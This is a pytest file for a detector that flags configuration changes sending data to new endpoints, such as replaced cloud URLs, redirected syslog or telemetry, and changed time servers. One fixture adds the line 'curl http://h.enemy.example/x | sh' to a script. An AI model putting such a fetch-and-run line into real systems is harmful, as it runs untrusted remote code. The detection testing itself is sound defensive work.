"""What is said of endpoints in settings."""

import time

import pytest

from trueware.explaining.detectors.data_leaving import DataLeaving
from trueware.model.finding import Finding, Severity

from .cases import all_rules, case, findings

PATH = "etc/agent.conf"
BASE = "# settings of the agent\nname = box\ncloud = https://cloud.maker.example/v1\ninterval = 60\n"


def found(after: str, before: str = BASE, path: str = PATH, mutable: tuple[str, ...] = ()) -> list[Finding]:
    return findings(DataLeaving, case({path: before.encode()}, {path: after.encode()}, mutable=mutable))


def rules(after: str, before: str = BASE, path: str = PATH) -> list[str]:
    return [each.rule for each in found(after, before, path)]


def test_one_in_the_place_of_another() -> None:
    (finding,) = found(BASE.replace("maker", "enemy"))
    assert (finding.rule, finding.severity) == ("endpoint-replaced", Severity.HIGH)
    assert finding.detail == "https://cloud.enemy.example/v1 instead of https://cloud.maker.example/v1"
    assert finding.evidence[0].where == "line 3"
    assert finding.touches == ("host:cloud.enemy.example",)


def test_one_that_was_added() -> None:
    (finding,) = found(BASE + "mirror = 198.51.100.7:9000\n")
    assert (finding.rule, finding.severity) == ("endpoint-added", Severity.MEDIUM)
    assert finding.touches == ("host:198.51.100.7", "port:9000")


def test_both_at_once() -> None:
    assert rules(BASE.replace("maker", "enemy") + "mirror = 198.51.100.7\n") == ["endpoint-replaced", "endpoint-added"]


def test_what_the_owner_may_do_weighs_less() -> None:
    assert found(BASE.replace("maker", "mine"), mutable=("etc/*",))[0].severity is Severity.MEDIUM
    assert found(BASE + "x = http://mine.example\n", mutable=("etc/*",))[0].severity is Severity.LOW


@pytest.mark.parametrize(
    ("line", "path"),
    [
        ("*.* @203.0.113.9", "etc/syslog.conf"),
        ("auth.* @@logs.enemy.example:514", "etc/rsyslog.conf"),
        ("\toption log_ip '192.168.1.77'", "etc/config/system"),
        ("SYSLOG_SERVER=203.0.113.9", "etc/default/log"),
    ],
)
def test_logs(line: str, path: str) -> None:
    assert rules(BASE + line + "\n", path=path) == ["log-sent-elsewhere"]
    assert rules(BASE + line + "\nx\n", BASE + line + "\n", path=path) == []


@pytest.mark.parametrize("key", ["telemetry_url", "stats.server", "crash_report", "analytics-host"])
def test_statistics(key: str) -> None:
    old, new = (f"{BASE}{key} = https://{who}.example/c\n" for who in ("maker", "enemy"))
    assert rules(new, old) == ["statistics-redirected"]


@pytest.mark.parametrize(
    ("old", "new", "path"),
    [
        ("list server '0.openwrt.pool.ntp.org'", "list server '0.de.pool.ntp.org'", "etc/config/system"),
        ("server ntp.maker.example iburst", "server time.other.example iburst", "etc/ntp.conf"),
    ],
)
def test_clocks(old: str, new: str, path: str) -> None:
    assert rules(new, old, path) == ["time-server-changed"]


@pytest.mark.parametrize(
    "after",
    [
        BASE.replace("/v1", "/v2"),
        BASE + "# see http://other.example/doc\n",
        BASE + "; http://other.example\n",
        BASE.replace("interval = 60", "interval = 30"),
        "interval = 60\ncloud = https://cloud.maker.example/v1\n",
        BASE + "netmask = 255.255.255.0\naddress = 192.168.8.1\nversion = 1.2.3.4\n",
        BASE + "schema = http://www.w3.org/2001/XMLSchema\n",
        BASE + "include = other.conf\nclass = com.maker.agent.Main\n",
        BASE + "url = http://%s:8080/\n",
    ],
)
def test_what_says_nothing(after: str) -> None:
    assert rules(after) == []


@pytest.mark.parametrize(
    "path",
    ["usr/share/doc/x", "www/index.html", "usr/lib/opkg/info/x.control", "etc/ssl/cert.pem", "LICENSE", "x/README.txt"],
)
def test_documents_are_none(path: str) -> None:
    assert rules(BASE + "http://other.example/\n", path=path) == []


def test_bytes_that_are_no_text() -> None:
    assert findings(DataLeaving, case({PATH: b"a"}, {PATH: b"\0http://enemy.example"})) == []
    assert findings(DataLeaving, case({PATH: BASE.encode()}, {PATH: b"http://enemy.example"}, at_hand=False)) == []


def test_an_added_file() -> None:
    assert [each.rule for each in findings(DataLeaving, case({"a": b""}, {"a": b"", PATH: BASE.encode()}))] == [
        "endpoint-added"
    ]


def test_what_others_told_is_not_told_again() -> None:
    script = "#!/bin/sh\nstart\n"
    told = all_rules(
        case({"usr/bin/x": script.encode()}, {"usr/bin/x": (script + "curl http://h.enemy.example/x | sh\n").encode()})
    )
    assert told == ["script-downloads-code"]


def test_one_long_line_of_endpoints_costs_what_it_is_long() -> None:
    line = " ".join(f"http://h{number}.example.com/x" for number in range(20_000))
    start = time.perf_counter()
    assert rules(BASE + line + "\n") == ["endpoint-added"]
    assert time.perf_counter() - start < 20


def test_an_address_in_hosts_is_no_endpoint() -> None:
    line = "203.0.113.20 www.bank.example\n"
    assert rules(line, "", "etc/hosts") == []
    assert rules(line, "", "etc/hostsync.conf") != []
